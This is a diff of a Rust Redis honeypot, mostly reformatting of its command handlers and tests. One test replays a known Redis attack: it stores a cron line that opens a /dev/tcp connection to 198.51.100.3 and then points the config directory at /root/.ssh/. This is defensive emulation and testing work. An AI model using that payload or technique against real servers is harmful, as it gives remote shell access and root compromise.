@@ -80,9 +80,7 @@ impl RedisHoneypot {
                 .map(|a| RespValue::Bulk(a.clone()))
                 .unwrap_or_else(|| wrong_args("echo")),
             "SELECT" => RespValue::Simple("OK".into()),
-            "AUTH" => RespValue::Error(
-                "ERR Client sent AUTH, but no password is set.".into(),
-            ),
+            "AUTH" => RespValue::Error("ERR Client sent AUTH, but no password is set.".into()),
             "SET" => {
                 let (Some(key), Some(value)) = (cmd.arg_text(0), cmd.args.get(1)) else {
                     return wrong_args("set");
@@ -180,11 +178,8 @@ impl RedisHoneypot {
                 else {
                     return wrong_args("lrange");
                 };
-                let (Ok(start), Ok(stop)) = (start.parse::<i64>(), stop.parse::<i64>())
-                else {
-                    return RespValue::Error(
-                        "ERR value is not an integer or out of range".into(),
-                    );
+                let (Ok(start), Ok(stop)) = (start.parse::<i64>(), stop.parse::<i64>()) else {
+                    return RespValue::Error("ERR value is not an integer or out of range".into());
                 };
                 RespValue::Array(
                     self.kv
@@ -212,8 +207,7 @@ impl RedisHoneypot {
                     RespValue::Array(items)
                 }
                 Some("SET") => {
-                    let (Some(param), Some(value)) = (cmd.arg_text(1), cmd.arg_text(2))
-                    else {
+                    let (Some(param), Some(value)) = (cmd.arg_text(1), cmd.arg_text(2)) else {
                         return wrong_args("config|set");
                     };
                     self.kv.config_set(&param, &value);
@@ -248,7 +242,9 @@ impl RedisHoneypot {
                     if self.kv.module_unload(&name) {
                         RespValue::Simple("OK".into())
                     } else {
-                        RespValue::Error(format!("ERR Error unloading module: no such module {name}"))
+                        RespValue::Error(format!(
+                            "ERR Error unloading module: no such module {name}"
+                        ))
                     }
                 }
                 Some("LIST") => RespValue::Array(vec![]),
@@ -257,9 +253,9 @@ impl RedisHoneypot {
             // `system.exec` / `eval` arrive from rogue-module and CVE
             // exploits; with no module loaded they fail exactly like this.
             "SYSTEM.EXEC" => RespValue::Error("ERR unknown command 'system.exec'".into()),
-            "EVAL" => RespValue::Error(
-                "ERR Error compiling script (new function): user_script:1".into(),
-            ),
+            "EVAL" => {
+                RespValue::Error("ERR Error compiling script (new function): user_script:1".into())
+            }
             other => RespValue::Error(format!("ERR unknown command '{other}'")),
         }
     }
@@ -286,12 +282,7 @@ impl SessionHandler for RedisHoneypot {
             Ok(pair) => pair,
             Err(_) => return,
         };
-        let log = SessionLogger::new(
-            self.store.clone(),
-            self.id,
-            ctx,
-            proxied.map(|sa| sa.ip()),
-        );
+        let log = SessionLogger::new(self.store.clone(), self.id, ctx, proxied.map(|sa| sa.ip()));
         log.connect();
         if let Err(e) = self.session(stream, initial, &log).await {
             if e.is_peer_fault() {
@@ -351,9 +342,7 @@ impl RedisHoneypot {
                 log.login(&username, &password, false);
             }
             if cmd.name == "QUIT" {
-                framed
-                    .write_frame(&RespValue::Simple("OK".into()))
-                    .await?;
+                framed.write_frame(&RespValue::Simple("OK".into())).await?;
                 return Ok(());
             }
             let reply = self.execute(&cmd);
@@ -407,10 +396,7 @@ mod tests {
         (server, store, hp)
     }
 
-    async fn roundtrip(
-        framed: &mut Framed<TcpStream, RespCodec>,
-        parts: &[&str],
-    ) -> RespValue {
+    async fn roundtrip(framed: &mut Framed<TcpStream, RespCodec>, parts: &[&str]) -> RespValue {
         framed
             .write_frame(&RespValue::command(parts))
             .await
@@ -436,7 +422,10 @@ mod tests {
             roundtrip(&mut f, &["TYPE", "x"]).await,
             RespValue::Simple("string".into())
         );
-        assert_eq!(roundtrip(&mut f, &["DEL", "x"]).await, RespValue::Integer(1));
+        assert_eq!(
+            roundtrip(&mut f, &["DEL", "x"]).await,
+            RespValue::Integer(1)
+        );
         assert_eq!(roundtrip(&mut f, &["GET", "x"]).await, RespValue::NullBulk);
         server.shutdown().await;
         assert!(hp.kv().is_empty());
@@ -471,7 +460,15 @@ mod tests {
         let mut f = Framed::new(stream, RespCodec::client());
         roundtrip(&mut f, &["INFO", "server"]).await;
         roundtrip(&mut f, &["FLUSHDB"]).await;
-        roundtrip(&mut f, &["SET", "x", "\n\n*/1 * * * * root exec 6<>/dev/tcp/198.51.100.3/8080\n\n"]).await;
+        roundtrip(
+            &mut f,
+            &[
+                "SET",
+                "x",
+                "\n\n*/1 * * * * root exec 6<>/dev/tcp/198.51.100.3/8080\n\n",
+            ],
+        )
+        .await;
         assert_eq!(
             roundtrip(&mut f, &["CONFIG", "SET", "dir", "/root/.ssh/"]).await,
             RespValue::Simple("OK".into())
@@ -520,8 +517,7 @@ mod tests {
             roundtrip(&mut f, &["HGET", "session", "user"]).await,
             RespValue::bulk("root")
         );
-        let RespValue::Array(pairs) = roundtrip(&mut f, &["HGETALL", "session"]).await
-        else {
+        let RespValue::Array(pairs) = roundtrip(&mut f, &["HGETALL", "session"]).await else {
             panic!();
         };
         assert_eq!(pairs.len(), 2);
@@ -582,8 +578,7 @@ mod tests {
             roundtrip(&mut f, &["EXISTS", "nope"]).await,
             RespValue::Integer(0)
         );
-        let RespValue::Array(pairs) = roundtrip(&mut f, &["CONFIG", "GET", "dir"]).await
-        else {
+        let RespValue::Array(pairs) = roundtrip(&mut f, &["CONFIG", "GET", "dir"]).await else {
             panic!("expected config pairs");
         };
         assert_eq!(pairs[0], RespValue::bulk("dir"));
